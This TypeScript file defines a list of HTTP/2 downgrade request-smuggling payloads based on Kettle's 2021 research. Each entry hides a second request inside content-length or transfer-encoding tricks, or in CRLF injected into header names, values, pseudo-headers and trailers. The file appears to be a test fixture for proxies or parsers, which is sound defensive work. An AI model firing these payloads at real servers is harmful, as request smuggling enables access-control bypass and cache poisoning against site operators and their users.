/**
 * Requests by HTTP/2 that hide another one from whoever writes them down as HTTP/1.1 (Kettle, "HTTP/2: The Sequel is
 * Always Worse", 2021).
 */
export interface Downgrade {
  readonly name: string;
  /** Names and values in turn, behind the pseudo-headers that a request has anyway. */
  readonly fields?: readonly string[];
  /** Pseudo-headers in place of the usual ones. */
  readonly pseudo?: (method: string) => Readonly<Record<string, string>>;
  /** DATA frames; without any, the request has no body. */
  readonly data?: readonly string[];
  readonly trailers?: readonly string[];
}

const HIDDEN = "GET /smuggled HTTP/1.1\r\nHost: app\r\n\r\n";
const LENGTH = `${HIDDEN.length}`;
const LAST = "0\r\n\r\n";
const NEW_REQUEST = `\r\n\r\n${HIDDEN}`;
const CHUNKED = "\r\nTransfer-Encoding: chunked";

/** With a body that ends at once for whoever reads chunks. */
const inChunks = (name: string, ...fields: string[]): Downgrade => ({ name, fields, data: [LAST + HIDDEN] });

export const DOWNGRADES: readonly Downgrade[] = [
  // H2.CL
  { name: "a body without a length", data: [HIDDEN] },
  { name: "a body without a length, in two", data: [HIDDEN.slice(0, 9), HIDDEN.slice(9)] },
  { name: "a body of its length", fields: ["content-length", LENGTH], data: [HIDDEN] },
  { name: "a length of 0", fields: ["content-length", "0"], data: [HIDDEN] },
  { name: "a length of less", fields: ["content-length", "5"], data: [`hello${HIDDEN}`] },
  {
    name: "a length of less, and the rest in a frame of its own",
    fields: ["content-length", "5"],
    data: ["hello", HIDDEN],
  },
  { name: "a length of more", fields: ["content-length", `${HIDDEN.length + 100}`], data: [HIDDEN] },
  { name: "two lengths", fields: ["content-length", "0", "content-length", LENGTH], data: [HIDDEN] },
  { name: "a list of lengths", fields: ["content-length", `0, ${LENGTH}`], data: [HIDDEN] },
  { name: "a signed length", fields: ["content-length", `+${LENGTH}`], data: [HIDDEN] },
  { name: "a length that isn't one", fields: ["content-length", "0\r\nX: y"], data: [HIDDEN] },
  { name: "a length with an underscore", fields: ["content_length", "0"], data: [HIDDEN] },
  { name: "a length in capitals", fields: ["Content-Length", "0"], data: [HIDDEN] },
  {
    name: "a length, and an expectation",
    fields: ["expect", "100-continue", "content-length", LENGTH],
    data: [HIDDEN],
  },
  // H2.TE
  inChunks("Transfer-Encoding", "transfer-encoding", "chunked"),
  inChunks("Transfer-Encoding in capitals", "Transfer-Encoding", "chunked"),
  inChunks("Transfer-Encoding with an underscore", "transfer_encoding", "chunked"),
  inChunks("Transfer-Encoding with a space behind", "transfer-encoding ", "chunked"),
  inChunks("Transfer-Encoding with a tab before the value", "transfer-encoding", "\tchunked"),
  inChunks(
    "Transfer-Encoding and a length",
    "transfer-encoding",
    "chunked",
    "content-length",
    `${LAST.length + HIDDEN.length}`,
  ),
  inChunks(
    "Connection that lists a length",
    "connection",
    "content-length",
    "content-length",
    `${LAST.length + HIDDEN.length}`,
  ),
  inChunks("Transfer-Encoding in a value", "x-a", `y${CHUNKED}`),
  inChunks("Transfer-Encoding in a value behind LF", "x-a", "y\nTransfer-Encoding: chunked"),
  inChunks("Transfer-Encoding in a value behind CR", "x-a", "y\rTransfer-Encoding: chunked"),
  inChunks("Transfer-Encoding in a name", "x-a: y\r\ntransfer-encoding", "chunked"),
  inChunks("Transfer-Encoding in a name with its colon", "transfer-encoding: chunked\r\nx-a", "y"),
  inChunks("a colon in a name", "transfer-encoding:chunked", "y"),
  inChunks("a space in a name", "transfer-encoding chunked", "y"),
  inChunks("Transfer-Encoding in a cookie", "cookie", "a=b", "cookie", `c=d${CHUNKED}`),
  inChunks("Transfer-Encoding in Host", "host", `app${CHUNKED}`),
  {
    name: "Transfer-Encoding in :path",
    pseudo: () => ({ ":path": `/payload HTTP/1.1${CHUNKED}\r\nX: y` }),
    data: [LAST + HIDDEN],
  },
  { name: "Transfer-Encoding in :authority", pseudo: () => ({ ":authority": `app${CHUNKED}` }), data: [LAST + HIDDEN] },
  // A request within a part of the head.
  { name: "a request in a value", fields: ["x-a", `y${NEW_REQUEST}`] },
  { name: "a request in a value behind LF", fields: ["x-a", `y\n\n${HIDDEN}`] },
  {
    name: "a request in a name",
    fields: [`x-a: y${NEW_REQUEST.toLowerCase().replace("get /smuggled http", "GET /smuggled HTTP")}x`, "y"],
  },
  { name: "a request in a cookie", fields: ["cookie", "a=b", "cookie", `c=d${NEW_REQUEST}`] },
  { name: "a request in an origin's field", fields: ["x-forwarded-for", `y${NEW_REQUEST}`] },
  { name: "a request in Host", fields: ["host", `app${NEW_REQUEST}`] },
  { name: "a request in TE", fields: ["te", `trailers${NEW_REQUEST}`] },
  { name: "a request in :path", pseudo: () => ({ ":path": `/payload HTTP/1.1\r\nHost: app${NEW_REQUEST}` }) },
  { name: "a space in :path", pseudo: () => ({ ":path": `/smuggled HTTP/1.1\r\nHost: app\r\n\r\nGET /payload` }) },
  { name: "a request in :authority", pseudo: () => ({ ":authority": `app${NEW_REQUEST}` }) },
  {
    name: "a request in :scheme",
    pseudo: () => ({ ":scheme": `https://app/${NEW_REQUEST}` }),
    fields: ["x-a", `y${NEW_REQUEST}`],
  },
  {
    name: "a request in :method",
    pseudo: (method) => ({ ":method": `GET /smuggled HTTP/1.1\r\nHost: app\r\n\r\n${method}` }),
  },
  // Trailers.
  { name: "a request in a trailer", data: ["hello"], trailers: ["x-sum", `y${NEW_REQUEST}`] },
  { name: "a request in a trailer behind LF", data: ["hello"], trailers: ["x-sum", `y\n\n${HIDDEN}`] },
  { name: "a length among the trailers", data: [HIDDEN], trailers: ["content-length", "0"] },
  { name: "Transfer-Encoding among the trailers", data: [HIDDEN], trailers: ["transfer-encoding", "chunked"] },
];
